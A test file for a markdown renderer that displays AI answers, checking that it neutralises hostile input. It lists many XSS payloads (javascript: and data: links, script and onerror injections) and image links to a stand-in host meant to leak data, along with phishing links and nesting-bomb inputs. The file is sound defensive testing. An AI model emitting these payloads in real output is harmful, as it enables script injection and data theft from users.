import {expect} from '@open-wc/testing';
import {AnswerView} from './answer-view.js';

const words = {copy: 'Copy', copied: 'Copied', code: 'Code', table: 'Table', picture: 'Picture'};

/** The answer as it stands in a page. */
function show(text: string): HTMLElement {
  const view = new AnswerView({words, citation: () => document.createTextNode('')}, document);
  document.body.append(view.root);
  view.update(text, true);
  return view.root;
}

const scripts = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://example.com/1)',
  '[x](file:///etc/passwd)',
  '[x](https://user:pass@example.com/)',
  '[x](view-source:https://a.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](javascript:1)](javascript:2)',
  'javascript:alert(1)',
  '[x][javascript:alert(1)]',
  '[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](intent://a#Intent;end)',
];

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<video src="https://evil.example/v" autoplay></video>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
  '- <details open ontoggle=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '**<img src=x onerror=alert(1)>**',
  '> <iframe srcdoc="<script>1</script>">',
  '<br/onload=alert(1)>',
  '<<img src=x onerror=alert(1)>',
];

const pictures = [
  '![x](https://evil.example/leak?q=secret)',
  '![](//evil.example/leak)',
  '![x][1]\n\n[1]: https://evil.example/leak',
  '[![x](https://evil.example/a)](https://evil.example/b)',
  '![x](https://evil.example/leak "t")',
  '| ![x](https://evil.example/leak) |\n|---|',
  '- ![x](https://evil.example/leak)',
  '![x](https://evil.example/leak',
  '**![x](https://evil.example/leak)**',
];

describe('an answer full of traps', () => {
  afterEach(() => document.querySelectorAll('body > .text').forEach((node) => node.remove()));

  for (const text of scripts) {
    it(`makes no link that runs a script: ${JSON.stringify(text)}`, () => {
      for (const link of show(text).querySelectorAll('a')) expect(link.protocol).to.match(/^(https?|mailto|tel):$/);
    });
  }

  for (const text of markup) {
    it(`shows HTML as text: ${JSON.stringify(text)}`, () => {
      const root = show(text);
      const strange = [...root.querySelectorAll('*')].filter(
        ({localName}) =>
          !/^(p|br|hr|ul|ol|li|h[3-6]|em|strong|s|code|pre|blockquote|a|span|div|button|table|thead|tbody|tr|th|td)$/.test(
            localName,
          ),
      );
      expect(strange.map(({localName}) => localName)).to.deep.equal([]);
      for (const element of root.querySelectorAll('*')) {
        const handlers = element
          .getAttributeNames()
          .filter((name) => name.startsWith('on') || name === 'src' || name === 'style');
        expect(handlers).to.deep.equal([]);
      }
    });
  }

  for (const text of pictures) {
    it(`fetches no picture: ${JSON.stringify(text)}`, () => {
      performance.clearResourceTimings();
      const root = show(text);
      expect(root.querySelector('img, picture, source, video, object')).to.equal(null);
      expect(performance.getEntriesByType('resource').filter(({name}) => name.includes('evil'))).to.deep.equal([]);
    });
  }

  it('shows a picture as a link that names where it leads', () => {
    const link = show('![Plano](https://files.example/plano.png)').querySelector('a')!;
    expect(link.textContent).to.equal('Picture: Plano (files.example)');
    expect(link.href).to.equal('https://files.example/plano.png');
  });

  it('gives links no hold on the page', () => {
    const link = show('[x](https://a.example)').querySelector('a')!;
    expect(link.rel.split(' ')).to.include.members(['noopener', 'noreferrer', 'nofollow']);
    expect(link.target).to.equal('_blank');
  });

  it('lets mail and telephone links through', () => {
    const links = show('[a](mailto:a@b.example) [b](tel:+34600000000)').querySelectorAll('a');
    expect([...links].map(({protocol}) => protocol)).to.deep.equal(['mailto:', 'tel:']);
  });

  it('names the host when the text of a link pretends to be another', () => {
    expect(show('[https://bank.example](https://evil.example/login)').textContent).to.equal(
      'https://bank.example (evil.example)',
    );
    expect(show('[www.bank.example](https://bank.example/)').textContent).to.equal('www.bank.example');
  });

  it('drops characters that turn the reading direction', () => {
    expect(show('a\u202Eb\u2066c\u2069d\u0000e').textContent).to.equal('abcde');
  });

  it('does not drown in nesting', () => {
    for (const text of [
      '> '.repeat(3000) + 'x',
      '- '.repeat(2000) + 'x',
      '['.repeat(5000) + 'x',
      '**_'.repeat(3000) + 'x',
      '`'.repeat(5000),
      '|'.repeat(3000) + 'x',
    ]) {
      const root = show(`${text}\n\nFin`);
      let depth = 0;
      for (let node: Element | null = root; node; node = node.lastElementChild) depth++;
      expect(depth).to.be.lessThan(60);
      expect(root.textContent).to.contain('Fin');
    }
  });

  it('keeps what the model said, whatever it is made of', () => {
    const text = 'Una <b>frase</b> & otra "más" \'así\' €1,50 — 日本語 🇪🇸';
    expect(show(text).textContent).to.equal(text);
  });
});
